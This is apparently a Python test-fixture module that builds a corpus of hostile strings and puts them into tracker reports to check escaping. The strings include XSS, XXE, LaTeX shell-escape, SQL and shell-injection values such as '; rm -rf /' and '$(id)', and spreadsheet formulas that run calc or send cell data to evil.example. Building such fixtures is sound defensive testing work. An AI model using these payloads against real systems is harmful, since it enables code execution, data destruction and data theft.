"""The corpus of hostile texts: what people, programs and attackers put where a name was expected.

``TEXTS`` maps a name, which tests show, to a text. ``report`` puts a text wherever a report may have one.
"""

import osce_tracker as ot

#: What a record refuses, since no file could hold it.
HALVES = {
    "lone high surrogate": f"a{chr(0xD800)}b",
    "lone low surrogate": f"{chr(0xDFFF)}",
    "surrogates in the wrong order": f"{chr(0xDE00)}{chr(0xD83D)} x",
}
#: What a record refuses where it wants a text that says something.
BLANK = {"empty": "", "blank": "   ", "tab alone": "\t", "line end alone": "\n", "no-break blank": "\u00a0"}

_BREAKS = {
    "line feed": "one\ntwo",
    "two line feeds": "one\n\ntwo",
    "carriage return, line feed": "one\r\ntwo",
    "carriage return": "one\rtwo",
    "vertical tab and form feed": "one\x0btwo\x0cthree",
    "next line": "one\x85two",
    "line and paragraph separator": "one\u2028two\u2029three",
    "line ends at the ends": "\n one \n",
    "blanks": "  two  blanks\t and \u00a0\u2003 a tab ",
}
_MARKDOWN = {
    "pipes": "a|b || c \\| d",
    "table": "| a | b |\n| --- | --- |\n| c | d |",
    "backticks": "`code` ``two`` ```\nfence\n```",
    "emphasis": "*bold* __strong__ ~~gone~~ _x_",
    "link": "[click](javascript:alert(1)) ![i](data:text/html,x)",
    "reference": "[a]: https://example.org\n[a]",
    "autolink": "<https://example.org> <javascript:alert(1)>",
    "heading": "# heading\n===\n---",
    "list": "- a\n1. b\n> c",
    "backslash at the end": "ends with \\",
    "image": "![x][y]",
    "mention": "@someone #1 :tada:",
}
_HTML = {
    "script": "<script>alert(1)</script>",
    "upper case script": "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
    "image with handler": '<img src=x onerror="alert(1)">',
    "svg with handler": "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "out of an attribute": '" onmouseover="alert(1)" x=\'',
    "out of a single quote": "' onfocus='alert(1)' autofocus='",
    "javascript address": "javascript:alert(document.domain)",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript address": "vbscript:msgbox(1)",
    "closing title": "</title><script>alert(1)</script>",
    "closing script": "</script><script>alert(1)</script>",
    "closing style": "</style><style>*{display:none}</style>",
    "closing svg": "</text></svg><foreignObject><script>alert(1)</script></foreignObject>",
    "closing textarea": "</textarea></select></noscript><b>",
    "closing table": "</td></tr></table></section></main></body></html><h1>x",
    "comment": "<!-- hidden --> <!--> --!> <![endif]-->",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe><base href=//evil.example>',
    "entities": "&lt;b&gt; &amp;amp; &copy &#60;script&#62; &notit;",
    "entity of an emoji": "&#x1F600; &#0; &#xD800;",
    "template element": "<template><script>x</script></template><slot name=x>",
    "mathml": "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
}
_XML = {
    "end of cdata": "]]> <![CDATA[ x ]]>",
    "entity declaration": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "processing instruction": '<?xml version="1.0"?><?php echo 1 ?>',
    "word elements": '</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\x "calc"</w:instrText></w:r>',
    "excel elements": "</v></c><c><f>1+1</f></c>",
    "noncharacters": "a\ufffeb\uffffc",
    "noncharacters of higher planes": "a\U0001fffe\U0010ffff\ufdd0",
}
_LATEX = {
    "latex input": r"\input{/etc/passwd} \include{x}",
    "latex write": r"\write18{touch hacked} \immediate\write18{id}",
    "latex specials": "50 % of $x_1$ & #2 {a} ~^ \\\\ \\",
    "latex ligatures": "a -- b --- c '' d `` e ,, f << g >> h ?` !`",
    "latex carets": "^^4d^^5e^^M",
    "latex quotes": "say \"a\" and 'b' and `c`",
    "latex end": r"\end{document} \end{longtable} } {",
    "latex star": "*[3em] x",
    "latex bracket": "[1em] x",
    "latex def": r"\def\x{\x}\x \catcode`\%=12 \csname x\endcsname",
    "latex verb": r"\verb|x| \begin{verbatim} % \par",
}
_SHEETS = {
    "formula": "=1+1",
    "formula of a link": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "formula with plus": "+1+1",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)",
    "formula after a tab": "\t=1+1",
    "formula after a carriage return": "\r=1+1",
    "formula after a line feed": "\n=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1",
    "full-width minus": "－1",
    "full-width at": "＠x",
    "formula after a mark": "\ufeff=1+1",
    "excel code": "_x0041_ _x000D_ _x005F_x0041_ _xD83D_",
    "excel error": "#REF!",
    "apostrophe": "'=1+1'",
    "number": "007",
    "number of many digits": "12345678901234567890",
    "looks like a date": "2025-12",
    "looks like a truth": "TRUE",
    "csv quotes": 'a "quoted", b; c\td',
    "csv quote alone": '"',
    "csv across lines": '"a\r\n=1+1,"b"',
    "sheet name": "[a]:*?/\\ History",
    "sheet name with an apostrophe at its end": "a" * 30 + "'s end",
    "sheet name of emoji": "\U0001f600" * 40,
    "header code": '&P &N &&D &"Arial,Bold"&12 x',
}
_SIGNS = {
    "control characters": "".join(map(chr, (*range(9), *range(14, 32), *range(127, 133), *range(134, 160)))),
    "escape sequence": "\x1b[31mred\x1b]0;title\x07\x9b2J",
    "separators of ascii": "a\x1cb\x1dc\x1ed\x1fe",
    "backspaces": "abc\x08\x08\x08xyz\x7f",
    "bidi": "\u202egpj.exe\u202c \u2066a\u2069 \u200e\u200f\u061c",
    "byte order mark": "\ufeffa\ufeffb",
    "zero width": "a\u200bb\u2060c\u00add",
    "emoji": "👩\u200d🚀 👨\u200d👩\u200d👧 🏳️\u200d🌈 🇫🇮 👍🏽",
    "decomposed": "A\u030a e\u0301 o\u0308 и\u0306",
    "zalgo": "z" + "\u0301\u0316\u0321\u0337" * 20,
    "private use": "\ue000 \U000f0000",
    "tags": "\U000e0041\U000e0042",
    "object replacement": "\ufffc \ufffd",
    "kazakh": "Қазақстан: «Әділет, теңдік, үміт»",
    "georgian": "საქართველო და ᲡᲐᲥᲐᲠᲗᲕᲔᲚᲝ",
    "armenian": "Հայաստանի Հանրապետություն",
    "mongolian": "ᠮᠣᠩᠭᠣᠯ ᠤᠯᠤᠰ Монгол Улс",
    "cyrillic": "Ёжик, Україна, Ђоковић",
    "arabic": "مرحبا بالعالم می\u200cخواهم",
    "turkish": "İstanbul ılık ŞİŞLİ ẞ",
    "chinese": "欧洲安全与合作组织 ㍿",
}
_CODE = {
    "jinja": "{{ 7*7 }} {% raw %} {# x #} {%- for x in y -%}",
    "format": "%s %d %(x)s {0} {x.__class__} %%",
    "mathtext": r"$\frac{1}{2}$ $x_{",
    "path": "../../etc/passwd C:\\Windows\\System32",
    "shell": "; rm -rf / && $(id) `id` | cat > x",
    "sql": "'; DROP TABLE commitments; --",
    "null word": "None null nan -",
    "placeholder": "-",
}
_LINKS = {
    "address": "https://example.org/a_b?c=d&e=f#g",
    "address with quotes": "https://example.org/\"onclick='x'",
    "address with markup": "http://example.org/*a*|b`c`[d](e)~f~\\",
    "address with entity": "https://example.org/?a=1&lt;=2&#106;",
    "address then script": "https://example.org/ <script>x</script>",
    "address after script": "javascript:alert(1)//https://example.org/",
    "address and line end": "https://example.org/\n",
    "address of formula": "https://example.org/?q==1+1",
    "address with broken host": "http://[bad",
    "address with user": "https://osce.org@evil.example/%",
    "long address": f"https://example.org/{'a' * 2_500}",
    "ftp address": "ftp://example.org/ file:///etc/passwd",
}
_LONG = {"long word": "w" * 5_000, "long text": ("Four words of text, " * 2_000)}

#: All texts by name.
TEXTS: dict[str, str] = {
    **BLANK,
    **_BREAKS,
    **_MARKDOWN,
    **_HTML,
    **_XML,
    **_LATEX,
    **_SHEETS,
    **_SIGNS,
    **_CODE,
    **_LINKS,
    **_LONG,
    **HALVES,
}
#: What records take.
RECORD_TEXTS = {name: text for name, text in TEXTS.items() if name not in {**BLANK, **HALVES}}


def table(text: str, key: str = "t") -> ot.Table:
    """Return a table that has a text wherever one may stand: two columns beside, two below."""
    columns = (
        ot.Column("a", text),
        ot.Column("b", text, kind="number"),
        ot.Column("c", text, detail=True),
        ot.Column("d", text, detail=True),
    )
    rows = ((text, text, text, text), ("A", None, text, None))
    return ot.Table(title=text, key=key, columns=columns, rows=rows, notes=(text,))


def report(text: str, tables: int = 1) -> ot.Report:
    """Return a report that has a text wherever one may stand."""
    made = tuple(table(text, f"t{n}") for n in range(tables))
    return ot.Report(title=text, subtitle=text, tables=made, notes=(text,))


def everything(texts: dict[str, str] | None = None) -> ot.Report:
    """Return one report that has all texts, or these, as cells, long texts and notes."""
    chosen = TEXTS if texts is None else texts
    columns = (ot.Column("name", "Name"), ot.Column("text", "Text"), ot.Column("more", "More", detail=True))
    rows = tuple((name, text, text) for name, text in chosen.items())
    whole = ot.Table(title="All texts", key="all", columns=columns, rows=rows, notes=tuple(chosen.values()))
    return ot.Report(title="Hostile texts", tables=(whole,), notes=tuple(chosen.values()))
